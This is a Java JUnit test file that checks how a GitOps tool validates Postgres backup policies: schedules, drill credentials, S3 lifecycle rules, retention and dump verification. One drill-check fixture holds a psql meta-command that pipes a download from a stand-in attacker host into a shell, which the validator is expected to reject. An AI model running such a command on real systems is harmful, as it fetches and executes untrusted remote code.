package ai.treum.gitops.core.backup;

import static org.assertj.core.api.Assertions.assertThat;

import ai.treum.gitops.core.load.LoadError;
import ai.treum.gitops.core.load.LoadResult;
import ai.treum.gitops.core.load.ManifestLoader;
import ai.treum.gitops.core.load.SourceFile;
import ai.treum.gitops.model.DesiredResource;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class BackupPolicyTest {

    private static final Instant NOW = Instant.parse("2026-11-28T03:00:00Z");

    private static DesiredResource load(String path, String text) {
        return ((LoadResult.Loaded) ManifestLoader.load(List.of(new SourceFile(path, text)), null)).resources().get(0);
    }

    private static BackupPolicy production() throws Exception {
        String path = "environments/production/backups/postgres.yaml";
        return BackupPolicy.parse(load(path, Files.readString(Path.of(path)))).policy();
    }

    private static StoredObject object(String key, long size, Duration age) {
        return new StoredObject(key, size, NOW.minus(age));
    }

    @Test
    void theBundledPolicyReads() throws Exception {
        BackupPolicy policy = production();

        assertThat(policy.bucket()).isEqualTo("treum-production-backups");
        assertThat(policy.prefix()).isEqualTo("postgres/");
        assertThat(policy.retention()).isEqualTo(Duration.ofDays(30));
        assertThat(policy.maxAge()).isEqualTo(Duration.ofHours(26));
        assertThat(policy.schedule()).isEqualTo("0 2 * * *");
        assertThat(policy.drillSchedule()).isEqualTo("0 4 * * 0");
    }

    @Test
    void aBadPolicyNamesFileLineAndField() {
        BackupPolicy.Parsed parsed = BackupPolicy.parse(load("b/x.yaml", """
                apiVersion: gitops.treum.ai/v1alpha1
                kind: BackupPolicy
                metadata: {name: x}
                spec: {database: db, schedule: "0 2 * * *", destination: "s3://bucket", retention: forever, maxAge: 26h}
                """));

        assertThat(parsed.policy()).isNull();
        assertThat(parsed.errors()).extracting(LoadError::toString).containsExactly(
                "b/x.yaml:1: backup-policy: BackupPolicy/x: spec.destination must be s3://BUCKET/PREFIX/ (a prefix of its own, "
                        + "ending in /), found 's3://bucket'",
                "b/x.yaml:1: backup-policy: BackupPolicy/x: spec.retention 'forever' is not a duration like 90s, 1m30s, 5m or 26h",
                "b/x.yaml:1: backup-policy: BackupPolicy/x: spec.databaseSecret.name is required: the database URL comes from "
                        + "a Secret, never Git",
                "b/x.yaml:1: backup-policy: BackupPolicy/x: spec.databaseSecret.key is required: the database URL comes from "
                        + "a Secret, never Git");
    }

    @Test
    void schedulesAreCronAndADrillMayLieBackOneIntervalAndTheGrace() {
        assertThat(Schedules.maxInterval("0 4 * * 0", NOW)).isEqualTo(Duration.ofDays(7).plusHours(6));
        assertThat(Schedules.maxInterval("0 4 1 * *", NOW)).isEqualTo(Duration.ofDays(30).plusHours(6));
        assertThat(Schedules.problem("0 2 * * *")).isEmpty();
        assertThat(Schedules.problem("every night")).isPresent();
        BackupPolicy.Parsed parsed = BackupPolicy.parse(load("b/y.yaml", """
                apiVersion: gitops.treum.ai/v1alpha1
                kind: BackupPolicy
                metadata: {name: y}
                spec: {database: db, schedule: "0 2 * *", destination: "s3://bucket/y/", retention: 7d, maxAge: 26h,
                       databaseSecret: {name: db, key: url},
                       restoreDrill: {schedule: "0 4 * * 0", databaseSecret: {name: drill, key: url}}}
                """));
        assertThat(parsed.errors()).singleElement().asString()
                .startsWith("b/y.yaml:1: backup-policy: BackupPolicy/y: spec.schedule '0 2 * *' is not a cron schedule: ");
    }

    @Test
    void theDrillConnectsWithCredentialsOfItsOwnNeverTheApplications() {
        String policy = """
                apiVersion: gitops.treum.ai/v1alpha1
                kind: BackupPolicy
                metadata: {name: d}
                spec: {database: db, schedule: "0 2 * * *", destination: "s3://bucket/d/", retention: 7d, maxAge: 26h,
                       databaseSecret: {name: db, key: url}, restoreDrill: %s}
                """;
        assertThat(BackupPolicy.parse(load("b/d.yaml", policy.formatted("{schedule: \"0 4 * * 0\"}"))).errors())
                .extracting(Object::toString).containsExactly("b/d.yaml:1: backup-policy: BackupPolicy/d: "
                        + "spec.restoreDrill.databaseSecret.name and .key are required: the drill connects with credentials "
                        + "of its own (CREATEDB, CREATEROLE), never the application's");
        assertThat(BackupPolicy.parse(load("b/d.yaml", policy.formatted(
                "{schedule: \"0 4 * * 0\", databaseSecret: {name: db, key: url}}"))).errors()).extracting(Object::toString)
                .containsExactly("b/d.yaml:1: backup-policy: BackupPolicy/d: spec.restoreDrill.databaseSecret names the "
                        + "application's own credentials (db/url): give the drill credentials of its own");
        assertThat(BackupPolicy.parse(load("b/d.yaml", policy.formatted(
                "{schedule: \"0 4 * * 0\", databaseSecret: {name: drill, key: url}}"))).errors()).isEmpty();
    }

    @Test
    void theBucketsLifecycleAgreesWithRetention() {
        BackupPolicy.Parsed parsed = BackupPolicy.parse(load("b/p.yaml", """
                apiVersion: gitops.treum.ai/v1alpha1
                kind: BackupPolicy
                metadata: {name: p}
                spec: {database: db, schedule: "0 2 * * *", destination: "s3://treum-backups/postgres/", retention: 30d,
                       maxAge: 26h, databaseSecret: {name: db, key: url}}
                """));
        String bucket = """
                apiVersion: gitops.treum.ai/v1alpha1
                kind: S3Bucket
                metadata: {name: treum-backups}
                spec:
                  versioning: true
                  lifecycleRules:
                    - {id: expire, prefix: postgres/, expirationDays: %d%s}
                """;
        DesiredResource policy = load("b/p.yaml", "apiVersion: gitops.treum.ai/v1alpha1\nkind: BackupPolicy\nmetadata: {name: p}\n");
        assertThat(BucketAgreement.check(parsed.policy(), policy, List.of(load("aws/s3.yaml", bucket.formatted(14, "")))))
                .extracting(Object::toString).containsExactly(
                        "aws/s3.yaml:1: backup-bucket: S3Bucket/treum-backups: lifecycle rule expire expires objects under "
                                + "postgres/ after 14 days, before the retention of BackupPolicy/p (30 days) would: S3 would "
                                + "delete dumps the policy keeps",
                        "aws/s3.yaml:1: backup-bucket: S3Bucket/treum-backups: versioned, and no lifecycle rule for postgres/ "
                                + "sets noncurrentExpirationDays: every dump the retention of BackupPolicy/p deletes would "
                                + "stay as a noncurrent version for ever");
        assertThat(BucketAgreement.check(parsed.policy(), policy,
                List.of(load("aws/s3.yaml", bucket.formatted(90, ", noncurrentExpirationDays: 30"))))).isEmpty();
    }

    @Test
    void drillChecksAreSqlWithANumericMinimumAndNeverPsqlMetaCommands() {
        BackupPolicy.Parsed parsed = BackupPolicy.parse(load("b/z.yaml", """
                apiVersion: gitops.treum.ai/v1alpha1
                kind: BackupPolicy
                metadata: {name: z}
                spec: {database: db, schedule: "0 2 * * *", destination: "s3://bucket/z/", retention: 7d, maxAge: 26h,
                       databaseSecret: {name: db, key: url},
                       restoreDrill: {schedule: "0 4 * * 0", databaseSecret: {name: drill, key: url}, checks: [
                         {query: "SELECT count(*) FROM trades", min: 1},
                         {query: "  \\\\! curl attacker.example | sh", min: 1},
                         {query: "SELECT 1", min: "one"},
                         {min: 2}]}}
                """));
        assertThat(parsed.policy()).isNull();
        assertThat(parsed.errors()).extracting(Object::toString).containsExactly(
                "b/z.yaml:1: backup-policy: BackupPolicy/z: spec.restoreDrill.checks[1].query is a psql meta-command, not SQL: "
                        + "checks run SQL only",
                "b/z.yaml:1: backup-policy: BackupPolicy/z: spec.restoreDrill.checks[2].min is required and must be a number",
                "b/z.yaml:1: backup-policy: BackupPolicy/z: spec.restoreDrill.checks[3].query is required: one SQL query "
                        + "whose result is a single number");
    }

    @Test
    void retentionDeletesOnlyTheOldObjectsOfItsPrefixAndNeverTheNewestDump() throws Exception {
        BackupPolicy policy = production();
        List<StoredObject> objects = List.of(
                object("postgres/2026-10-01.dump.gz", 100, Duration.ofDays(58)),
                object("postgres/2026-10-01.dump.gz.sha256", 64, Duration.ofDays(58)),
                object("postgres/2026-11-27.dump.gz", 100, Duration.ofDays(1)),
                object("postgres-archive/2026-01-01.dump.gz", 100, Duration.ofDays(331)));

        assertThat(Retention.expired(policy, objects, NOW, 1)).extracting(StoredObject::key)
                .containsExactly("postgres/2026-10-01.dump.gz", "postgres/2026-10-01.dump.gz.sha256");

        List<StoredObject> allOld = List.of(object("postgres/a.dump.gz", 100, Duration.ofDays(90)),
                object("postgres/b.dump.gz", 100, Duration.ofDays(60)), object("postgres/b.dump.gz.sha256", 64, Duration.ofDays(60)));
        assertThat(Retention.expired(policy, allOld, NOW, 1)).extracting(StoredObject::key).containsExactly("postgres/a.dump.gz");

        List<StoredObject> drills = List.of(object("postgres/drills/2026-09-01.json", 300, Duration.ofDays(88)),
                object("postgres/drills/2026-10-01.json", 300, Duration.ofDays(58)));
        assertThat(Retention.expired(policy, drills, NOW, 1)).as("the newest drill record stays").extracting(StoredObject::key)
                .containsExactly("postgres/drills/2026-09-01.json");
    }

    @Test
    void retentionKeepsTheNewestDumpsItIsToldToWhateverTheirAge() throws Exception {
        BackupPolicy policy = production();
        List<StoredObject> old = List.of(object("postgres/a.dump.gz", 100, Duration.ofDays(90)),
                object("postgres/b.dump.gz", 100, Duration.ofDays(80)), object("postgres/c.dump.gz", 100, Duration.ofDays(70)),
                object("postgres/c.dump.gz.sha256", 64, Duration.ofDays(70)), object("postgres/d.dump.gz", 100, Duration.ofDays(60)));

        assertThat(Retention.expired(policy, old, NOW, 3)).extracting(StoredObject::key)
                .as("with three to keep, only the oldest goes").containsExactly("postgres/a.dump.gz");
    }

    @Test
    void verificationFlagsAMissingStaleTruncatedOrMismatchedDump() throws Exception {
        BackupPolicy policy = production();
        List<StoredObject> fresh = List.of(object("postgres/n.dump.gz", 2048, Duration.ofHours(3)));

        Verification good = Verification.of(policy, fresh, new Verification.Read("ab12", true, true, "AB12"), NOW);
        assertThat(good.problems()).isEmpty();
        assertThat(good.verified()).isEqualTo(NOW.minus(Duration.ofHours(3)));

        assertThat(Verification.of(policy, List.of(), null, NOW).problems())
                .containsExactly("no dump under s3://treum-production-backups/postgres/");
        assertThat(Verification.of(policy, List.of(object("postgres/n.dump.gz", 2048, Duration.ofHours(30))),
                new Verification.Read("ab12", true, true, "ab12"), NOW).problems())
                .containsExactly("postgres/n.dump.gz is 30h old, more than maxAge 26h");
        Verification truncated = Verification.of(policy, fresh, new Verification.Read("ab12", false, false, "ab12"), NOW);
        assertThat(truncated.problems()).containsExactly(
                "postgres/n.dump.gz (2048 bytes) is not a whole gzip stream: truncated or corrupt");
        assertThat(truncated.verified()).isNull();
        assertThat(Verification.of(policy, fresh, new Verification.Read("ab12", true, true, "cd34"), NOW).problems())
                .containsExactly("postgres/n.dump.gz has SHA-256 ab12, its checksum object says cd34");
        assertThat(Verification.of(policy, fresh, new Verification.Read("ab12", true, true, null), NOW).problems())
                .containsExactly("postgres/n.dump.gz has no checksum object postgres/n.dump.gz.sha256");
    }
}
